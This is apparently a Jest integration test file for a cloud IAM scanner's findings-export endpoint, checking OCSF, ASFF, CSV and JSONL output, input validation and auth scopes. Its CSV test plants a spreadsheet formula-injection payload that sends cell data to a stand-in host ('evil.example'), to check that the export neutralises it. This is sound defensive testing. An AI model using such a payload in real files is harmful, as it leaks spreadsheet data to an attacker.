import { readFileSync } from 'node:fs';
import path from 'node:path';
import Ajv from 'ajv';
import { parse } from 'csv-parse/sync';
import pino from 'pino';
import { AwsAccess } from '../../src/adapters/aws/aws-access';
import { createScanService } from '../../src/app';
import { DEFAULT_CONTROL_SETTINGS } from '../../src/controls/no-access-keys-at-setup/control';
import type { PrismaClient } from '../../src/generated/prisma/client';
import { startServer, type RunningServer } from '../../src/graphql/server';
import { parseOrganizationFixture, sampleOrganizationFixture, SAMPLE_MEMBER_ROLE_NAME, startIamSandbox, type IamSandbox } from '../../src/sandbox';
import { AccountsService } from '../../src/services/accounts.service';
import { CSV_HEADER } from '../../src/services/exports/csv.mapper';
import { KEYWARDEN_VERSION } from '../../src/services/exports/exports.service';
import { resetDatabase, TEST_ADMIN_TOKEN, testPrisma } from '../support/stack';

/**
 * GET /exports/findings over HTTP, against the sample organization (three accounts, scanned through the sandbox's
 * IAM, STS and Organizations): every OCSF record validates against the committed OCSF 1.8.0 schema, every ASFF
 * record against the shape derived from the Security Hub model, the CSV parses back to the same findings.
 */
const DATA = path.join(__dirname, '../data');
const ajv = new Ajv({ allErrors: true, strict: false, unicodeRegExp: false });
const validOcsf = ajv.compile(JSON.parse(readFileSync(path.join(DATA, 'ocsf-1.8.0-compliance_finding.schema.json'), 'utf8')));
const validAsff = ajv.compile(JSON.parse(readFileSync(path.join(DATA, 'securityhub-asff.schema.json'), 'utf8')));
const errorsOf = (validate: typeof validOcsf) => ajv.errorsText(validate.errors, { separator: '\n' });

const PAYMENTS = '234567890123';

describe('findings exports over HTTP', () => {
  let prisma: PrismaClient;
  let sandbox: IamSandbox;
  let server: RunningServer;
  let base: string;
  let graphql: { id: string; status: string; userName: string; accountId: string; severity: string; control: { controlId: string } }[];
  const get = (query: string, token: string | null = TEST_ADMIN_TOKEN) =>
    fetch(`${base}/exports/findings?${query}`, { headers: token ? { authorization: `Bearer ${token}` } : {} });
  const lines = (text: string) => text.split('\n').filter(Boolean).map((l) => JSON.parse(l));

  beforeAll(async () => {
    prisma = testPrisma();
    await resetDatabase(prisma);
    sandbox = await startIamSandbox({ fixture: parseOrganizationFixture(sampleOrganizationFixture) });
    const aws = new AwsAccess({
      region: 'us-east-1', credentials: { accessKeyId: 'AKIASANDBOX000000000', secretAccessKey: 'sandbox' },
      endpoints: { iam: sandbox.url, sts: sandbox.url, organizations: sandbox.url }, baseIdentity: 'STS', memberRoleName: SAMPLE_MEMBER_ROLE_NAME,
    });
    const accounts = new AccountsService(prisma, aws);
    const synced = await accounts.sync();
    expect(synced.total).toBe(3);
    for (const accountId of [...synced.added, ...synced.updated].sort()) {
      const iam = await accounts.iamClientFor(accountId, 'keywarden-exports-test');
      expect((await createScanService(prisma, iam).run({ collect: { mode: 'PER_USER_API' }, control: DEFAULT_CONTROL_SETTINGS })).status).toBe('COMPLETED');
    }
    server = await startServer({ prisma, logger: pino({ level: 'silent' }), port: 0, auth: { bootstrapToken: TEST_ADMIN_TOKEN }, exports: { region: 'eu-west-1', pageSize: 7 } });
    base = server.url.replace(/\/graphql$/, '');
    const res = await fetch(server.url, {
      method: 'POST', headers: { 'content-type': 'application/json', authorization: `Bearer ${TEST_ADMIN_TOKEN}` },
      body: JSON.stringify({ query: '{ findings(first: 100) { totalCount nodes { id status userName accountId severity control { controlId title mappings { requirementId } } } } }' }),
    });
    const body = (await res.json()) as any;
    expect(body.errors).toBeUndefined();
    graphql = body.data.findings.nodes;
    expect(body.data.findings.totalCount).toBe(graphql.length);
  }, 60_000);
  afterAll(async () => {
    await server?.close();
    await sandbox?.close();
    await prisma?.$disconnect();
  });

  const localIds = () => graphql.map((f) => Buffer.from(f.id, 'base64url').toString().replace(/^Finding:/, '')).sort();

  it('Finding.control and Finding.severity: the control of each finding, INFORMATIONAL unless it fails, errs or is excepted', () => {
    expect(graphql.length).toBeGreaterThan(20);
    expect(new Set(graphql.map((f) => f.accountId)).size).toBe(3);
    for (const f of graphql) {
      expect(f.control.controlId).toBe('iam-no-access-keys-at-initial-setup');
      expect(f.severity).toBe(['FAIL', 'ERROR', 'EXCEPTED'].includes(f.status) ? 'MEDIUM' : 'INFORMATIONAL');
    }
    expect(graphql.some((f) => f.status === 'FAIL')).toBe(true);
    expect(graphql.some((f) => f.status === 'NOT_APPLICABLE')).toBe(true);
  });

  it('ocsf: one OCSF 1.8.0 Compliance Finding per line, each valid against the committed schema, the same findings as the findings query', async () => {
    const res = await get('format=ocsf');
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('application/x-ndjson; charset=utf-8');
    expect(res.headers.get('content-disposition')).toMatch(/^attachment; filename="keywarden-findings-\d{8}T\d{6}Z\.ocsf\.jsonl"$/);
    const records = lines(await res.text());
    for (const r of records) if (!validOcsf(r)) throw new Error(`${r.finding_info?.uid}: ${errorsOf(validOcsf)}`);
    expect(records.map((r) => r.metadata.uid).sort()).toEqual(localIds());
    const fail = records.find((r) => r.compliance.status_code === 'FAIL')!;
    expect(fail).toMatchObject({
      class_uid: 2003, category_uid: 2, type_uid: 200301, severity_id: 3, status_id: 1, status: 'New',
      metadata: { version: '1.8.0', product: { name: 'Keywarden', version: KEYWARDEN_VERSION } },
      compliance: { status_id: 3, status: 'Fail', control: 'iam-no-access-keys-at-initial-setup' },
      cloud: { provider: 'AWS', region: 'eu-west-1' },
    });
    expect(fail.finding_info.uid).toMatch(/^\d{12}\/iam-no-access-keys-at-initial-setup\/[^/]+\/AKIA[0-9A-Z]+$/);
    expect(fail.compliance.requirements).toContain('CIS AWS Foundations Benchmark 6.0.0 2.10');
    expect(fail.resources.map((x: any) => x.type)).toEqual(['AWS::IAM::User', 'AWS::IAM::AccessKey']);
    // N/A is Other (99) with its own status name; Pass is 1; resolved-without-failing findings are Resolved.
    const na = records.find((r) => r.compliance.status_code === 'NOT_APPLICABLE')!;
    expect(na.compliance).toMatchObject({ status_id: 99, status: 'Not Applicable' });
    expect(records.find((r) => r.compliance.status_code === 'PASS')).toMatchObject({ compliance: { status_id: 1 }, status_id: 4, severity_id: 1 });
  });

  it('the committed OCSF schema refuses what OCSF 1.8.0 does not allow (the validation can fail)', async () => {
    const [record] = lines(await (await get('format=ocsf&status=FAIL')).text());
    expect(validOcsf(record)).toBe(true);
    expect(validOcsf({ ...record, compliance: { ...record.compliance, status_id: 7 } })).toBe(false);
    expect(validOcsf({ ...record, finding_info: { title: 'no uid' } })).toBe(false);
    expect(validOcsf({ ...record, class_uid: 2004 })).toBe(false);
    expect(validOcsf({ ...record, cloud: undefined })).toBe(false); // the cloud profile, declared in metadata.profiles, requires it
    expect(validOcsf({ ...record, made_up: 1 })).toBe(false);
  });

  it('ocsf&array=true: one JSON array of the same records', async () => {
    const res = await get('format=ocsf&array=true');
    expect(res.headers.get('content-type')).toBe('application/json; charset=utf-8');
    const records = JSON.parse(await res.text());
    expect(records).toHaveLength(graphql.length);
    expect(records.every((r: unknown) => validOcsf(r))).toBe(true);
  });

  it('asff: an array BatchImportFindings accepts, each finding valid against the Security Hub model, with stable ids', async () => {
    const res = await get('format=asff');
    expect(res.headers.get('content-type')).toBe('application/json; charset=utf-8');
    expect(res.headers.get('content-disposition')).toMatch(/\.asff\.json"$/);
    const findings = JSON.parse(await res.text());
    expect(findings).toHaveLength(graphql.length);
    for (const f of findings) if (!validAsff(f)) throw new Error(`${f.Id}: ${errorsOf(validAsff)}`);
    const again = JSON.parse(await (await get('format=asff')).text());
    expect(again.map((f: any) => f.Id)).toEqual(findings.map((f: any) => f.Id));
    expect(new Set(findings.map((f: any) => f.Id)).size).toBe(findings.length);
    const fail = findings.find((f: any) => f.AwsAccountId === PAYMENTS && f.Compliance.Status === 'FAILED');
    expect(fail).toMatchObject({
      SchemaVersion: '2018-10-08',
      ProductArn: `arn:aws:securityhub:eu-west-1:${PAYMENTS}:product/${PAYMENTS}/default`,
      GeneratorId: 'iam-no-access-keys-at-initial-setup',
      Types: ['Software and Configuration Checks/Industry and Regulatory Standards/CIS AWS Foundations Benchmark'],
      Severity: { Label: 'MEDIUM' },
      // What Security Hub applies on later imports, even after a user changed the top-level severity.
      FindingProviderFields: { Severity: { Label: 'MEDIUM' }, Types: ['Software and Configuration Checks/Industry and Regulatory Standards/CIS AWS Foundations Benchmark'] },
      Workflow: { Status: 'NEW' },
      RecordState: 'ACTIVE',
    });
    expect(fail.Resources.map((r: any) => r.Type)).toEqual(['AwsIamUser', 'AwsIamAccessKey']);
    expect(fail.Resources[1].Details.AwsIamAccessKey).toMatchObject({ AccessKeyId: fail.Resources[1].Id, PrincipalType: 'IAMUser', Status: 'Active' });
    expect(fail.Compliance.RelatedRequirements).toContain('CIS AWS Foundations Benchmark 6.0.0/2.10');
    expect(fail.Compliance.StatusReasons[0].ReasonCode).toMatch(/^(CREATED_AT_SETUP|NEVER_USED)$/);
    // A passing finding that never failed: RESOLVED and ARCHIVED, INFORMATIONAL.
    expect(findings.find((f: any) => f.Compliance.Status === 'PASSED')).toMatchObject({ Workflow: { Status: 'RESOLVED' }, RecordState: 'ARCHIVED', Severity: { Label: 'INFORMATIONAL' } });
    // The derived shape refuses what the service would: an over-long description, an unknown field, a missing Id.
    expect(validAsff({ ...fail, Description: 'x'.repeat(1025) })).toBe(false);
    expect(validAsff({ ...fail, Severity: { Label: 'SEVERE' } })).toBe(false);
    const { Id: _id, ...noId } = fail;
    expect(validAsff(noId)).toBe(false);
  });

  it('csv: RFC 4180 with a BOM and the documented columns, parsing back to the same findings; formula cells come back as text', async () => {
    const victim = graphql.find((f) => f.status === 'FAIL')!;
    const victimId = Buffer.from(victim.id, 'base64url').toString().replace(/^Finding:/, '');
    const evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
    await prisma.$executeRawUnsafe('UPDATE finding SET user_name = $1 WHERE id = $2::uuid', evil, victimId);
    try {
      const res = await get('format=csv');
      expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8; header=present');
      const bytes = Buffer.from(await res.arrayBuffer());
      expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
      const text = bytes.toString('utf8');
      expect(text).toContain('\r\n');
      const [header, ...rows] = parse(text, { bom: true }) as string[][];
      expect(header).toEqual(CSV_HEADER);
      const byId = new Map(rows.map((r) => [r[1], Object.fromEntries(header.map((h, i) => [h, r[i]]))]));
      expect([...byId.keys()].sort()).toEqual(localIds());
      for (const f of graphql) {
        const row = byId.get(Buffer.from(f.id, 'base64url').toString().replace(/^Finding:/, ''))!;
        expect([row.account_id, row.status, row.severity, row.control_id]).toEqual([f.accountId, f.status, f.severity, f.control.controlId]);
        if (f !== victim) expect(row.user_name).toBe(f.userName);
      }
      expect(byId.get(victimId)!.user_name).toBe(`'${evil}`);
      const withoutBom = Buffer.from(await (await get('format=csv&bom=false')).arrayBuffer());
      expect(withoutBom.subarray(0, 8).toString()).toBe('identity');
    } finally {
      await prisma.$executeRawUnsafe('UPDATE finding SET user_name = $1 WHERE id = $2::uuid', victim.userName, victimId);
    }
  });

  it('jsonl: the export record itself, with the filters of the findings query', async () => {
    const res = await get(`format=jsonl&accountIds=${PAYMENTS}&status=FAIL,PASS`);
    expect(res.headers.get('content-type')).toBe('application/x-ndjson; charset=utf-8');
    const records = lines(await res.text());
    const expected = graphql.filter((f) => f.accountId === PAYMENTS && ['FAIL', 'PASS'].includes(f.status));
    expect(records.map((r) => r.findingId).sort()).toEqual(expected.map((f) => Buffer.from(f.id, 'base64url').toString().replace(/^Finding:/, '')).sort());
    expect(records[0]).toMatchObject({ accountId: PAYMENTS, region: 'eu-west-1', partition: 'aws', control: { id: 'iam-no-access-keys-at-initial-setup' } });
    const open = lines(await (await get('format=jsonl&state=OPEN')).text());
    expect(open.length).toBe(graphql.filter((f) => f.status === 'FAIL' || f.status === 'ERROR').length);
    const asOf = lines(await (await get(`format=jsonl&asOf=${encodeURIComponent(new Date().toISOString())}`)).text());
    expect(asOf.length).toBe(graphql.length);
    // Nothing selected: still a whole document of each format.
    expect(JSON.parse(await (await get('format=asff&status=EXCEPTED')).text())).toEqual([]);
    expect(JSON.parse(await (await get('format=ocsf&array=true&status=EXCEPTED')).text())).toEqual([]);
    expect(await (await get('format=csv&status=EXCEPTED&bom=false')).text()).toBe(`${CSV_HEADER.join(',')}\r\n`);
    expect(await (await get('format=ocsf&status=EXCEPTED')).text()).toBe('');
  });

  it('bad input is a 400 naming the parameter, before any byte of an export', async () => {
    const cases: [string, string][] = [
      ['format=xml', 'format'],
      ['', 'format'],
      ['format=csv&status=BROKEN', 'status'],
      ['format=csv&state=CLOSED', 'state'],
      ['format=csv&asOf=yesterday', 'asOf'],
      [`format=csv&asOf=${encodeURIComponent(new Date(Date.now() + 86_400_000).toISOString())}`, 'asOf'],
      ['format=csv&accountIds=999999999999', 'accountIds'],
      ['format=csv&array=true', 'array'],
      ['format=ocsf&array=maybe', 'array'],
      ['format=csv&format=ocsf', 'format'],
      ['format=csv&acountIds=1', 'acountIds'],
    ];
    for (const [query, field] of cases) {
      const res = await get(query);
      expect([query, res.status, res.headers.get('content-type')]).toEqual([query, 400, 'application/json; charset=utf-8']);
      const body = (await res.json()) as any;
      expect([query, body.errors[0].extensions]).toEqual([query, { code: 'BAD_USER_INPUT', field }]);
    }
  });

  it('HEAD checks the filters and answers the headers of the export', async () => {
    const head = await fetch(`${base}/exports/findings?format=csv`, { method: 'HEAD', headers: { authorization: `Bearer ${TEST_ADMIN_TOKEN}` } });
    expect([head.status, head.headers.get('content-type'), await head.text()]).toEqual([200, 'text/csv; charset=utf-8; header=present', '']);
    const bad = await fetch(`${base}/exports/findings?format=xml`, { method: 'HEAD', headers: { authorization: `Bearer ${TEST_ADMIN_TOKEN}` } });
    expect(bad.status).toBe(400);
  });

  it('needs a token with findings:read', async () => {
    expect((await get('format=csv', null)).status).toBe(401);
    const token = await new (require('../../src/auth/tokens.service').TokensService)(prisma).create({ name: 'scanner', scopes: ['scans:write'], createdBy: 'test' });
    const res = await get('format=csv', token.token);
    expect(res.status).toBe(403);
    expect(((await res.json()) as any).errors[0].extensions.code).toBe('FORBIDDEN');
  });
});
